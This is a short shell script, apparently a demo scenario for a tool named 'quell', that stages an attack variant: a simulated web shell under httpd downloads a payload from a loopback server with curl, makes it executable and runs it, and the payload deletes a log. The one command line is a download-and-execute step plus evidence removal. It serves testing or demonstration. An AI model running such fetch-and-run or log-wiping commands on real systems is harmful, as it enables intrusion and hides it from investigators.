#!/bin/sh
# quell demo: the attack variant. A web shell (a shell spawned by httpd) downloads a payload
# from a loopback server (started beforehand, outside the recorded tree), runs it, and the
# payload deletes the same log.
"$W/bin/httpd" "curl -s -o $W/payload http://127.0.0.1:$P/payload && chmod +x $W/payload && $W/payload"
